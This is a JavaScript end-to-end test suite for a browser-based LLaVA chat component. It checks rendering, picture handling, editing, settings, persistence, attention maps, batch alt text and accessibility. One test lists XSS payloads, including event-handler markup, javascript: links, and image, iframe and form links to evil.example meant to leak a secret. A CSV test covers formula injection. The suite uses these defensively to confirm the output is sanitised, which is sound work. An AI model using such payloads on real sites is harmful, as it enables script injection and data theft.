// What a person does with a conversation, and what is made of the model's words. A stand-in for the engine answers here: what it is told
// to say, or what it was asked. The element, the worker and the wire between them are the real ones.

import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";

import { standIn, storedIs } from "./stand-in.mjs";
import { golden, openTab, SCREENSHOTS, settled, start } from "./support.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

const VIEWS = [
  { name: "390-light", viewport: { width: 390, height: 844 }, colorScheme: "light", hasTouch: true },
  { name: "390-dark", viewport: { width: 390, height: 844 }, colorScheme: "dark", hasTouch: true },
  { name: "1280-light", viewport: { width: 1280, height: 800 }, colorScheme: "light" },
  { name: "1280-dark", viewport: { width: 1280, height: 800 }, colorScheme: "dark" },
];

const MARKDOWN = `say:### What is seen

A woman in an **orange** suit, and *behind* her:

1. a flag
2. a model of the \`Space Shuttle\`

| thing | colour |
| --- | --- |
| suit | orange |
| helmet | white |

> It is a portrait.

\`\`\`
a line of code
\`\`\`

See [NASA](https://www.nasa.gov/).`;

const question = (page) => page.getByRole("textbox", { name: "Your question" });
const answers = (page) => page.locator(".answer");
const idle = (page) => page.getByRole("button", { name: "Ask", exact: true }).waitFor();

describe("the conversation", () => {
  let host;
  let folder;
  before(async () => {
    folder = mkdtempSync(path.join(tmpdir(), "llava-web-"));
    host = await start({ given: [/\/golden\/nothing\.png$/], flags: ["--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream"] });
    mkdirSync(SCREENSHOTS, { recursive: true });
  });
  after(async () => {
    await host?.close();
    rmSync(folder, { recursive: true });
  });

  async function load(page, { vision = true } = {}) {
    await page.evaluate(([vision]) => document.querySelector("llava-chat").load({ model: new Blob(["GGUF"]), mmproj: vision ? new Blob(["GGUF"]) : undefined }), [vision]);
    await question(page).waitFor();
  }
  const visit = (name, use, options = {}) => test(name, { timeout: 120_000 }, async () => {
    const tab = await openTab(host.browser, options);
    tab.page.setDefaultTimeout(10_000);
    try {
      await tab.page.context().route("**/pkg*/llava_web.js", (route) => route.fulfill({ contentType: "text/javascript", body: standIn() }));
      await tab.page.goto(host.chooser);
      await load(tab.page);
      await use(tab.page, tab);
      assert.deepEqual(tab.complaints, []);
      assert.deepEqual(tab.requests.filter((url) => !url.startsWith(host.server.origin) && !/^(blob|data):/.test(url)), []);
    } finally {
      await tab.close();
    }
  });
  async function ask(page, text) {
    await question(page).fill(text);
    await question(page).press("Enter");
    await idle(page);
  }
  async function attach(page, ...files) {
    const chooser = page.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Picture", exact: true }).click();
    await (await chooser).setFiles(files.map(golden));
    await page.locator(".thumb").nth(files.length - 1).waitFor();
  }
  /** What the engine was sent, of a question that has it say so. */
  async function echo(page) {
    await ask(page, "echo");
    // An answer that is asked for as JSON is shown as it is, the fence too.
    return JSON.parse((await answers(page).last().locator("code").textContent()).replace(/^```json\n|\n```\n?$/g, ""));
  }

  visit("Markdown, while it is written", async (page) => {
    await ask(page, MARKDOWN);
    const answer = answers(page).last();
    for (const [selector, text] of [["h3", "What is seen"], ["strong", "orange"], ["em", "behind"], ["li:nth-child(2) code", "Space Shuttle"], ["td >> nth=0", "suit"], ["blockquote", "It is a portrait."], ["pre code", "a line of code\n"]]) {
      assert.equal((await answer.locator(selector).textContent()).trim(), text.trim(), selector);
    }
    const link = answer.getByRole("link", { name: "NASA" });
    assert.deepEqual(await link.evaluate(({ href, target, rel, title }) => ({ href, target, rel, title })), { href: "https://www.nasa.gov/", target: "_blank", rel: "noopener noreferrer nofollow", title: "www.nasa.gov" });
    // What is finished is not built anew with each word: whoever selects it keeps the selection.
    await question(page).fill(`say:First *paragraph*.\n\n${"More words. ".repeat(60)}`);
    await question(page).press("Enter");
    await page.waitForFunction(() => [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer")].at(-1).textContent.length > 40);
    const kept = await answers(page).last().locator(".block").first().elementHandle();
    await idle(page);
    assert.equal(await kept.evaluate((node) => node.isConnected && node.textContent.trim()), "First paragraph.");
  });

  visit("what the model says is never markup that acts", async (page, { requests }) => {
    requests.length = 0;
    for (const words of [
      "<img src='/stolen.png' onerror='globalThis.owned = 1'>", "<script>globalThis.owned = 1</script>", "<svg onload=globalThis.owned=1></svg>",
      "![a cat](https://evil.example/p.png?q=secret)", "[click](javascript:globalThis.owned=1)", "[mail](mailto:a@b.c) [here](#x) [data](data:text/html,x)",
      "<style>* { display: none }</style>", "<iframe src='https://evil.example'></iframe>", "<a href='https://evil.example' onclick='globalThis.owned=1'>x</a>",
      "<form action='https://evil.example'><input name=a></form>", "<div id=x class=shell style='position:fixed;inset:0'>over all</div>", "[x](https://ok.example 'title\"onmouseover=globalThis.owned=1')",
      "| a |\n| --- |\n| <img src=x onerror=globalThis.owned=1> |", "``<b>``<math><mi//xlink:href='data:x,<script>globalThis.owned=1</script>'>",
    ]) {
      await ask(page, `say:${words}`);
    }
    // What was to be fetched or run would have been by the time that the page has fetched and run something itself.
    await page.evaluate(async () => {
      await new Promise((resolve) => Object.assign(document.body.appendChild(new Image()), { onload: resolve, src: "icon.svg" }));
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    });
    requests.splice(0, requests.length, ...requests.filter((url) => !url.endsWith("icon.svg")));
    const found = await page.evaluate(() => {
      const all = [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer *")];
      return {
        owned: globalThis.owned ?? null,
        tags: [...new Set(all.map(({ localName }) => localName))].filter((name) => /img|script|svg|iframe|style|form|input|math|object/.test(name)),
        attributes: [...new Set(all.flatMap((node) => [...node.attributes].map(({ name }) => name)))].sort(),
        addresses: all.filter((node) => node.hasAttribute("href")).map((node) => node.getAttribute("href")),
      };
    });
    assert.deepEqual(found, { owned: null, tags: [], attributes: ["class", "href", "rel", "tabindex", "target", "title"], addresses: ["https://ok.example"] });
    assert.ok((await answers(page).nth(3).textContent()).includes("a cat"), "a picture stays words");
    assert.ok((await answers(page).first().textContent()).includes("<img src="), "markup stays text");
    assert.deepEqual(requests.filter((url) => !url.startsWith("blob:")), []);
  });

  visit("several pictures: chosen, dropped, from the camera, from an address", async (page, { complaints }) => {
    await attach(page, "images/astronaut.jpg", "images/chelsea.png");
    await page.getByRole("button", { name: "Take a photo with the camera" }).click();
    await page.getByRole("button", { name: "Take photo", exact: true }).click();
    await page.getByText("photo.jpg").waitFor();
    await page.getByRole("button", { name: "Picture from a URL" }).click();
    const address = page.getByRole("textbox", { name: "Picture URL" });
    await address.fill(`${host.server.origin}/golden/nothing.png`);
    await address.press("Enter");
    await page.getByRole("dialog").getByText("status 404").waitFor();
    await address.fill(`${host.server.origin}/golden/images/images.json`);
    await address.press("Enter");
    await page.getByRole("dialog").getByText("could not be opened as a picture").waitFor();
    await address.fill(`${host.server.origin}/golden/images/coffee.jpg`);
    await address.press("Enter");
    await page.getByText("coffee.jpg").waitFor();
    assert.equal(await page.getByRole("dialog").count(), 0);
    await page.getByRole("button", { name: "Remove the picture chelsea.png" }).click();
    const request = await echo(page);
    assert.deepEqual(request.messages.at(-1).content.map(({ type }) => type), ["image", "image", "image", "text"]);
    assert.equal(request.images, 3);
    assert.equal(await page.getByRole("img", { name: /The picture asked about/ }).count(), 3);
    for (let i = 0; i < 9; i++) await page.evaluate(async (i) => document.querySelector("llava-chat").shadowRoot.querySelector("textarea").dispatchEvent(new ClipboardEvent("paste", {
      clipboardData: await (async () => { const data = new DataTransfer(); data.items.add(new File([await (await fetch("/golden/images/plain.bmp")).blob()], `p${i}.bmp`, { type: "image/bmp" })); return data; })(),
      bubbles: true, composed: true, cancelable: true,
    })), i);
    await page.getByRole("alert").getByText("up to 8 pictures").waitFor();
    // The browser's own line about the address that leads nowhere.
    assert.deepEqual(complaints.splice(0).map((text) => text.includes("404")), [true]);
  }, { permissions: ["camera"] });

  visit("edit and send again: what came after goes, what failed comes back", async (page) => {
    await attach(page, "images/astronaut.jpg");
    await ask(page, "One");
    await ask(page, "Two");
    await ask(page, "Three");
    await page.getByRole("button", { name: "Edit" }).nth(1).click();
    assert.equal(await question(page).inputValue(), "Two");
    await page.keyboard.press("Escape");
    assert.equal(await question(page).inputValue(), "");
    assert.equal(await answers(page).count(), 3);

    // What is being written when another question is edited is there again afterwards.
    await question(page).fill("a draft");
    await page.getByRole("button", { name: "Edit" }).nth(1).click();
    await page.getByRole("button", { name: "Cancel" }).click();
    assert.equal(await question(page).inputValue(), "a draft");
    await page.getByRole("button", { name: "Edit" }).nth(1).click();
    await ask(page, "too long");
    assert.equal(await question(page).inputValue(), "a draft");
    // It stays where it was asked, with what can be done; what it replaced is not lost.
    const failed = page.locator(".turn").filter({ hasText: "too long" });
    await failed.getByRole("alert").getByText("9999 tokens").waitFor();
    assert.deepEqual(await page.locator(".question").allTextContents(), ["One", "too long"]);
    assert.equal(await page.evaluate(() => document.querySelector("llava-chat").messages.length), 2);
    await failed.getByRole("button", { name: "Undo the edit" }).click();
    assert.deepEqual(await page.locator(".question").allTextContents(), ["One", "Two", "Three"]);
    assert.equal(await question(page).inputValue(), "too long");
    assert.equal(await page.evaluate(() => document.querySelector("llava-chat").messages.length), 6);
    await question(page).fill("Two again");
    await question(page).press("Enter");
    await idle(page);
    assert.deepEqual(await page.locator(".question").allTextContents(), ["One", "Two again"]);
    assert.equal(await question(page).inputValue(), "a draft");
    await question(page).fill("");
    let { messages } = await echo(page);
    assert.deepEqual(messages.map(({ role }) => role), ["user", "assistant", "user", "assistant", "user"]);
    assert.equal(messages[2].content, "Two again");

    // The first one, with its picture.
    await page.getByRole("button", { name: "Edit" }).first().click();
    await page.locator(".thumb").getByText("astronaut.jpg").waitFor();
    await ask(page, "One anew");
    assert.deepEqual(await page.locator(".question").allTextContents(), ["One anew"]);
    assert.equal(await page.getByRole("img", { name: /astronaut/ }).count(), 1);
    ({ messages } = await echo(page));
    assert.deepEqual(messages[0].content.map(({ type }) => type), ["image", "text"]);
  });

  visit("settings: heard by the next answer, there again after a reload, undone", async (page) => {
    const open = () => page.getByRole("button", { name: "Settings" }).click();
    await open();
    const dialog = page.getByRole("dialog", { name: "Settings" });
    await dialog.getByLabel("Instructions for every answer").fill("Be brief.");
    await dialog.getByLabel("Temperature").fill("0.3");
    await dialog.getByLabel("Top k").fill("7.6");
    await dialog.getByLabel("Maximum length").fill("50");
    await dialog.getByLabel("Min p").fill("9");
    await dialog.getByLabel("Context").fill("1024");
    assert.equal(await dialog.getByLabel("JSON schema").isVisible(), false);
    await dialog.getByLabel("Answer as JSON").check();
    await dialog.getByLabel("JSON schema").fill('{ "type": "integer" }');
    await page.keyboard.press("Tab");
    assert.equal(await dialog.getByLabel("Min p").inputValue(), "1");
    await page.keyboard.press("Escape");
    assert.equal(await page.getByRole("dialog").count(), 0);
    const seen = (request) => [request.messages[0], request.temperature, request.top_k, request.max_tokens, request.min_p, request.seed, request.response_format];
    const expected = [{ role: "system", content: "Be brief." }, 0.3, 8, 50, 1, undefined, { type: "json_schema", json_schema: { schema: { type: "integer" } } }];
    assert.deepEqual(seen(await echo(page)), expected);
    await page.reload();
    await load(page);
    const request = await echo(page);
    assert.deepEqual(seen(request), expected);
    assert.equal(JSON.parse(request.options).contextSize, 1024);
    await open();
    await dialog.getByRole("button", { name: "Reset to defaults" }).click();
    assert.equal(await dialog.getByLabel("Temperature").inputValue(), "");
    await page.keyboard.press("Escape");
    const plain = await echo(page);
    assert.deepEqual([plain.temperature, plain.messages[0].role, plain.response_format], [undefined, "user", undefined]);
    assert.equal(await page.evaluate(() => localStorage.length), 0);
  });

  visit("answers as JSON: shown as they are; a schema that is none is said to be", async (page) => {
    const dialog = page.getByRole("dialog", { name: "Settings" });
    const schema = dialog.getByLabel("JSON schema");
    await page.getByRole("button", { name: "Settings" }).click();
    await dialog.getByLabel("Answer as JSON").check();
    await page.keyboard.press("Escape");
    assert.deepEqual((await echo(page)).response_format, { type: "json_object" });
    await ask(page, 'say:{"a": ["*b*", "_c_"]}');
    const code = answers(page).last().locator("pre code");
    assert.equal((await code.textContent()).trim(), '{"a": ["*b*", "_c_"]}');
    await page.getByRole("button", { name: "Settings" }).click();
    await schema.fill('{ "type": "object", }');
    await dialog.getByText(/The schema isn’t valid JSON/).waitFor();
    assert.equal(await schema.getAttribute("aria-invalid"), "true");
    await schema.fill("[1]");
    await dialog.getByText("A JSON schema begins with").waitFor();
    await page.keyboard.press("Escape");
    await question(page).fill("What is it?");
    await question(page).press("Enter");
    await page.locator(".turn").filter({ hasText: "What is it?" }).getByRole("alert").getByText("It is in the settings, under “Answer as JSON”.").waitFor();
    await page.getByRole("button", { name: "Settings" }).click();
    await schema.fill('{ "type": "object" }');
    assert.equal(await schema.getAttribute("aria-invalid"), "false");
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Try again" }).click();
    await page.locator(".turn").filter({ hasText: "What is it?" }).getByText("It is").waitFor();
    assert.deepEqual((await echo(page)).response_format, { type: "json_schema", json_schema: { schema: { type: "object" } } });
  });

  visit("kept on wish: there again after a reload with its pictures, gone when it is no longer wished", async (page) => {
    await attach(page, "images/astronaut.jpg", "images/coffee.jpg");
    await ask(page, MARKDOWN);
    await page.reload();
    await load(page);
    assert.equal(await answers(page).count(), 0, "nothing is kept that was not asked to be");
    const keep = async (wish) => {
      await page.getByRole("button", { name: "Settings" }).click();
      await page.getByLabel(/Save the conversation and its pictures/).setChecked(wish);
      await page.keyboard.press("Escape");
    };
    await keep(true);
    await attach(page, "images/astronaut.jpg", "images/coffee.jpg");
    await ask(page, MARKDOWN);
    await ask(page, "And then?");
    // What the engine had computed is kept as well, and given to the next one.
    const { pictures } = await storedIs(page, ({ conversations, sessions }) => conversations[0]?.questions.length === 2 && sessions[0] === 4);
    assert.equal(pictures.length, 2, "each picture once");
    await page.reload();
    await load(page);
    await answers(page).nth(1).waitFor();
    assert.equal(await answers(page).first().locator("td").count(), 4);
    assert.equal(await page.getByRole("img", { name: /astronaut|coffee/ }).count(), 2);
    const { messages, images } = await echo(page);
    assert.deepEqual([messages.length, messages[0].content.length, images], [5, 3, 2]);
    const [{ id }] = (await storedIs(page, ({ conversations }) => conversations[0]?.questions.length === 3)).conversations;
    // A model that cannot see leaves it where it is.
    await page.reload();
    await load(page, { vision: false });
    await page.getByText("this model can’t see pictures").waitFor();
    await page.reload();
    await load(page);
    await answers(page).nth(2).waitFor();
    const after = await storedIs(page, () => true);
    assert.deepEqual([after.conversations.map((conversation) => conversation.id), after.pictures.length], [[id], 2]);
    await page.getByRole("button", { name: "New conversation" }).click();
    await page.getByRole("button", { name: "Close this message" }).click();
    await storedIs(page, (now) => now.conversations.length + now.pictures.length + now.sessions.length === 0);
    await ask(page, "Hello");
    await storedIs(page, ({ conversations }) => conversations[0]?.questions[0] === "Hello");
    await keep(false);
    await storedIs(page, (now) => now.conversations.length + now.pictures.length + now.sessions.length === 0);
    await page.reload();
    await load(page);
    // The restored conversation would be there with the model.
    assert.equal(await answers(page).count(), 0);
  });

  visit("saved as Markdown and as JSON that can be sent again", async (page) => {
    await attach(page, "images/chelsea.png");
    await ask(page, "Which animal?");
    const save = async (format) => {
      await page.getByRole("button", { name: "Save the conversation" }).click();
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: format, exact: true }).click();
      const file = await download;
      return [file.suggestedFilename(), readFileSync(await file.path(), "utf8")];
    };
    assert.deepEqual(await save("Markdown"), ["conversation.md", "# Conversation with Stand-in\n\n## Which animal?\n\nPicture: chelsea.png\n\nIt is **1**, 13.\n"]);
    const [name, text] = await save("JSON");
    assert.equal(name, "conversation.json");
    const { messages } = JSON.parse(text);
    assert.deepEqual(messages.map(({ role }) => role), ["user", "assistant"]);
    const [image] = messages[0].content;
    assert.ok(Buffer.from(image.image_url.url.split(",")[1], "base64").equals(readFileSync(golden("images/chelsea.png"))));
    const again = await page.evaluate(async (messages) => (await document.querySelector("llava-chat").engine.chat.completions.create({ messages: messages.slice(0, 1) })).choices[0].message.content, messages);
    assert.equal(again, "It is **1**, 13.");
  });

  /** Holds a state against the rules of accessibility and of layout, and takes its picture. */
  const checker = (page, name) => async (state) => {
    await settled(page);
    await page.screenshot({ path: path.join(SCREENSHOTS, `${name}-${state}.png`) });
    const found = await page.evaluate(async (axe) => {
      globalThis.axe ?? Function(axe)();
      const { violations } = await globalThis.axe.run(document);
      const root = document.querySelector("llava-chat").shadowRoot;
      return {
        violations: violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`),
        small: [...root.querySelectorAll("button, input:not(.visually-hidden, [type=checkbox]), textarea, select")].filter((node) => node.checkVisibility())
          .map((node) => ({ node: node.className, ...node.getBoundingClientRect().toJSON() })).filter(({ width, height }) => Math.min(width, height) < 40),
        outside: [...root.querySelectorAll("*")].filter((node) => node.checkVisibility() && !node.closest(".visually-hidden, select, svg, pre, table"))
          .filter((node) => node.getBoundingClientRect().right > innerWidth + 1 || node.getBoundingClientRect().left < -1).map((node) => node.className),
        overflow: document.documentElement.scrollWidth - innerWidth,
      };
    }, axe);
    assert.deepEqual(found, { violations: [], small: [], outside: [], overflow: 0 }, state);
  };
  const words = (page) => page.locator(".word");
  const map = (page) => page.getByRole("img", { name: /^Where the model looked before/ });
  const lookButton = (page) => page.getByRole("button", { name: "Where the model looked", exact: true });
  /** Where a map's largest value lies in the picture, and whether it lies over it. */
  const drawn = (page) => map(page).last().evaluate((veil) => {
    const image = veil.parentElement.querySelector("img");
    const [canvas] = veil.children;
    const [v, i, c] = [veil, image, canvas].map((node) => node.getBoundingClientRect());
    const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
    let best = 0;
    for (let at = 0; at < data.length; at += 4) if (data[at] + data[at + 1] > data[best] + data[best + 1]) best = at;
    const [x, y] = [(best / 4) % canvas.width, Math.floor(best / 4 / canvas.width)];
    return {
      covers: Math.max(Math.abs(v.left - i.left), Math.abs(v.top - i.top), Math.abs(v.right - i.right), Math.abs(v.bottom - i.bottom)),
      x: (c.left + (x + 0.5) / canvas.width * c.width - i.left) / i.width, y: (c.top + (y + 0.5) / canvas.height * c.height - i.top) / i.height,
    };
  });

  visit("where it looked: a click on a word draws it over the picture, another takes it away", async (page) => {
    await attach(page, "images/chelsea.jpg");
    await ask(page, "say:A cat with **green eyes**, and [a link](https://example.org/cat) to the cat. Two lost words & more");
    assert.equal(await words(page).count(), 0, "nobody who listens to the answer meets buttons");
    const text = await answers(page).last().textContent();
    // Whoever selects text gets text.
    await answers(page).last().getByText("green eyes").dblclick({ position: { x: 10, y: 10 } });
    assert.equal(await page.evaluate(() => (document.querySelector("llava-chat").shadowRoot.getSelection?.() ?? getSelection()).toString().trim()), "green");
    assert.equal(await words(page).count(), 0);
    await lookButton(page).click();
    await words(page).filter({ hasText: "green" }).click();
    await map(page).waitFor();
    assert.equal(await page.locator('.word[aria-pressed="true"]').textContent(), "green");
    // "green" begins at the 14th character, in the second piece of seven; token 2, so a glow in column 12 + 2.
    const { covers, x, y } = await drawn(page);
    assert.ok(covers < 1.5, `the map is ${covers} pixels off`);
    const side = 451 / 300;
    assert.ok(Math.abs(x - 14.5 / 24) < 0.03 && Math.abs(y - (9.5 / 24 * side - (side - 1) / 2)) < 0.03, `${x}, ${y}`);
    await page.locator(".heat-legend").getByText(/12% of its attention was on the picture/).waitFor();
    assert.equal(await answers(page).last().textContent(), text, "the answer reads as before");
    // Words in links are left alone, all others are buttons.
    assert.equal(await words(page).filter({ hasText: /^link$/ }).count(), 0);
    assert.equal(await words(page).count(), text.match(/\w+/g).length - 2);
    // The same word again takes it away, the button ends it.
    await words(page).filter({ hasText: "green" }).click();
    assert.equal(await map(page).count(), 0);
    await words(page).filter({ hasText: "eyes" }).click();
    await map(page).waitFor();
    await page.getByRole("button", { name: "Hide where the model looked" }).click();
    assert.equal(await map(page).count(), 0);
    assert.equal(await lookButton(page).getAttribute("aria-pressed"), "true");
    await lookButton(page).click();
    assert.equal(await words(page).count(), 0);
    assert.equal(await answers(page).last().textContent(), text);
    // What the engine cannot say any more is said so.
    await lookButton(page).click();
    await words(page).filter({ hasText: "lost" }).click();
    await page.getByText("The context does not hold what was written there any more.").waitFor();
    assert.equal(await words(page).count(), 0);
    // The next question takes it away.
    await lookButton(page).click();
    await words(page).filter({ hasText: "cat" }).first().click();
    await map(page).waitFor();
    await ask(page, "And more?");
    assert.equal(await map(page).count(), 0);
    assert.equal(await words(page).count(), 0);
  });

  visit("where it looked, on a phone: the picture comes into view", async (page) => {
    await attach(page, "images/chelsea.jpg");
    await ask(page, `say:${"A cat looks at you. ".repeat(60)}Whiskers.`);
    await page.locator(".log").evaluate((log) => log.scrollTo(0, log.scrollHeight));
    await lookButton(page).click();
    await words(page).last().click();
    await map(page).waitFor();
    await page.waitForFunction(() => document.querySelector("llava-chat").shadowRoot.querySelector(".heat").getBoundingClientRect().top >= 0);
  }, { viewport: { width: 390, height: 844 }, reducedMotion: "reduce" });

  visit("where it looked, by keyboard", async (page) => {
    const focused = () => page.evaluate(() => document.querySelector("llava-chat").shadowRoot.activeElement?.textContent);
    await ask(page, "say:no picture yet");
    assert.equal(await lookButton(page).count(), 0, "nothing to look at");
    await attach(page, "images/chelsea.jpg");
    await ask(page, "say:one two three four");
    await lookButton(page).focus();
    await page.keyboard.press("Enter");
    assert.equal(await focused(), "one");
    await page.keyboard.press("ArrowRight");
    await page.keyboard.press("ArrowRight");
    assert.equal(await focused(), "three");
    await page.keyboard.press("Enter");
    await map(page).waitFor();
    await page.waitForFunction(() => /Before “three” the model looked mostly at the (middle|top|right)/.test(document.querySelector("llava-chat").shadowRoot.querySelector('[aria-live="polite"]').textContent));
    await page.keyboard.press("End");
    await page.keyboard.press("ArrowRight");
    assert.equal(await focused(), "four");
    await page.keyboard.press("Home");
    await page.keyboard.press("Space");
    await page.getByRole("img", { name: /before “one”/ }).waitFor();
    assert.equal(await page.locator('.word[tabindex="0"]').count(), 1, "one stop for the Tab key");
    await page.keyboard.press("Escape");
    assert.equal(await map(page).count(), 0);
    assert.equal(await focused(), "Where the model looked");
  });

  for (const { name, ...options } of VIEWS) {
    visit(`at ${name}: where it looked; nothing overflows, no accessibility rule is broken; screenshots`, async (page) => {
      const check = checker(page, name);
      await attach(page, "images/chelsea.jpg");
      await ask(page, "say:A ginger cat with *green* eyes looks past the camera. Its ears stand up, and its whiskers are white.");
      await lookButton(page).click();
      await words(page).filter({ hasText: "green" }).click();
      await map(page).waitFor();
      await check("16-looked-at");
      await ask(page, "And these?");
      await attach(page, "images/chelsea.jpg", "images/coffee_tall.jpg");
      await ask(page, "say:Two pictures: a cat, and a cup of coffee.");
      await lookButton(page).last().click();
      await words(page).filter({ hasText: "Two" }).click();
      await map(page).nth(1).waitFor();
      await check("17-looked-at-several");
    }, options);
  }

  visit("example questions, by keyboard; stop keeps what was said", async (page) => {
    await attach(page, "images/astronaut.jpg");
    await page.getByRole("button", { name: "Describe this picture." }).focus();
    await page.keyboard.press("Enter");
    await idle(page);
    assert.equal(await page.locator(".question").textContent(), "Describe this picture.");
    await question(page).fill("on and on");
    await question(page).press("Enter");
    await page.waitForFunction(() => [...document.querySelector("llava-chat").shadowRoot.querySelectorAll(".answer")].at(-1).textContent.length > 30);
    await page.getByRole("button", { name: "Stop" }).click();
    await idle(page);
    assert.ok((await answers(page).last().textContent()).length > 30);
    await page.getByText("Stopped").first().waitFor();
    await page.getByText("12.3 tokens/s").waitFor();
  });

  visit("many pictures: described one after another, stopped, gone on with, edited, saved; there again after a reload", async (page) => {
    for (const [name, from] of [["b.jpg", "astronaut.jpg"], ["a", "coffee.jpg"]]) writeFileSync(path.join(folder, name), readFileSync(golden(`images/${from}`)));
    writeFileSync(path.join(folder, "broken.png"), "no picture");
    writeFileSync(path.join(folder, "notes.txt"), "text");
    const open = () => page.getByRole("button", { name: "Describe a whole folder of pictures" }).click();
    await open();
    const choose = async (files, button = "Choose pictures") => {
      const chooser = page.waitForEvent("filechooser");
      await page.getByRole("button", { name: button, exact: true }).click();
      await (await chooser).setFiles(files);
    };
    const prompt = page.getByRole("textbox", { name: "Prompt for every picture" });
    const rows = page.getByRole("list", { name: "Pictures" }).getByRole("listitem");
    const row = (name) => rows.filter({ hasText: name });
    await choose([path.join(folder, "notes.txt")]);
    await page.getByRole("alert").getByText("None of these files is a picture").waitFor();
    await choose(folder, "Choose a folder");
    // One whose type no system knows is seen by its content; what is left out is said.
    await page.getByRole("alert").getByText(/One file that isn’t a picture was left out: .*notes\.txt/).waitFor();
    assert.equal(await rows.count(), 3);
    await prompt.fill('say:=A "cup", and,\nmore');
    await page.getByRole("button", { name: "Describe all" }).click();
    await page.getByText("2 of 3 described").waitFor();
    await row("broken.png").getByText(/Failed: .*could not be opened/).waitFor();
    const save = async (format) => {
      const download = page.waitForEvent("download");
      await page.getByRole("button", { name: format }).click();
      return readFileSync(await (await download).path(), "utf8");
    };
    const base = path.basename(folder);
    // No spreadsheet takes it for a formula.
    assert.equal(await save("Save as CSV"), `\ufeff"file","alt"\r\n"${base}/a","'=A ""cup"", and, more"\r\n"${base}/b.jpg","'=A ""cup"", and, more"\r\n`);
    assert.deepEqual(JSON.parse(await save("Save as JSON")), ["a", "b.jpg"].map((name) => ({ file: `${base}/${name}`, alt: '=A "cup", and, more' })));
    await page.getByRole("textbox", { name: `Description of ${base}/a` }).fill("A cup of coffee.");
    // A long one, stopped midway: it is asked again.
    await choose([golden("images/chelsea.png"), golden("images/coffee.jpg")]);
    await prompt.fill("on and on");
    await page.getByRole("button", { name: "Continue" }).click();
    await row("chelsea.png").getByText("Describing…").waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await row("chelsea.png").getByText("Waiting").waitFor();
    await prompt.fill(`say:${"A cat. ".repeat(100)}`);
    await page.getByRole("button", { name: "Continue" }).click();
    await page.getByText("4 of 5 described · 2 cut off").waitFor();
    await row("chelsea.png").getByText("Cut off: the description reached").waitFor();
    await page.getByRole("textbox", { name: "Description of chelsea.png" }).fill("A cat.");
    await prompt.click();
    await page.getByText("4 of 5 described · 1 cut off").waitFor();
    await storedIs(page, ({ altTexts }) => altTexts.map(({ text }) => text).sort().join("|").startsWith('=A "cup", and, more|A cat.|A cat. A cat.'));

    // A reload takes the pictures, not the work: chosen again, they are known.
    await page.reload();
    await load(page);
    await open();
    await page.getByText("4 of 4 described · 1 cut off").waitFor();
    assert.equal(await page.getByRole("textbox", { name: `Description of ${base}/a` }).inputValue(), "A cup of coffee.");
    await choose(folder, "Choose a folder");
    await row("broken.png").waitFor();
    assert.equal(await rows.count(), 5);
    await page.getByText("4 of 5 described").waitFor();
    assert.equal(await row("b.jpg").getByRole("presentation").evaluate((image) => image.decode().then(() => image.naturalWidth > 0)), true);
    await page.getByRole("button", { name: "Clear the list" }).click();
    assert.equal(await rows.count(), 0);
    await page.getByRole("button", { name: "Undo" }).click();
    assert.equal(await rows.count(), 5);
    await page.getByRole("button", { name: "Clear the list" }).click();
    await page.getByRole("alert").filter({ hasText: "The list is cleared" }).getByRole("button", { name: "Close this message" }).click();
    await storedIs(page, ({ altTexts }) => altTexts.length === 0);
    await page.getByRole("button", { name: "Back to the chat" }).click();
    await question(page).waitFor();
  });

  for (const { name, ...options } of VIEWS) {
    visit(`at ${name}: nothing overflows, no accessibility rule is broken; screenshots`, async (page) => {
      const check = checker(page, name);
      await attach(page, "images/astronaut.jpg", "images/chelsea.png", "images/coffee.jpg");
      await check("10-several");
      await page.getByRole("button", { name: "Remove the picture chelsea.png" }).click();
      await page.getByRole("button", { name: "Remove the picture coffee.jpg" }).click();
      await ask(page, MARKDOWN);
      await page.locator(".log").evaluate((log) => log.scrollTo(0, 0));
      await check("11-markdown");
      await page.getByRole("button", { name: "Edit" }).click();
      await question(page).fill("What colour is the suit?");
      await check("12-edit");
      await page.getByRole("button", { name: "Cancel" }).click();
      await page.getByRole("button", { name: "Settings" }).click();
      await check("13-settings");
      const schema = page.getByLabel("JSON schema");
      await page.getByLabel("Answer as JSON").check();
      await schema.fill('{ "type": "object",\n  "properties": { "animal": { "type": "string" }, "count": { "type": "integer" } }');
      await schema.scrollIntoViewIfNeeded();
      await check("16-settings-json");
      await schema.fill("");
      await page.getByLabel("Answer as JSON").uncheck();
      await page.keyboard.press("Escape");
      await page.getByRole("button", { name: "Save the conversation" }).click();
      await check("14-save");
      await page.keyboard.press("Escape");
      await page.getByRole("button", { name: "New conversation" }).click();
      await page.getByRole("button", { name: "Describe a whole folder of pictures" }).click();
      const chooser = page.waitForEvent("filechooser");
      await page.getByRole("button", { name: "Choose pictures" }).click();
      await (await chooser).setFiles(["images/astronaut.jpg", "images/chelsea.png", "images/coffee.jpg"].map(golden));
      await page.getByRole("textbox", { name: "Prompt for every picture" }).fill("say:An astronaut in an orange suit smiles at the camera.");
      await page.getByRole("button", { name: "Describe all" }).click();
      await page.getByText("3 of 3 described").waitFor();
      await check("15-alt-texts");
    }, options);
  }
});
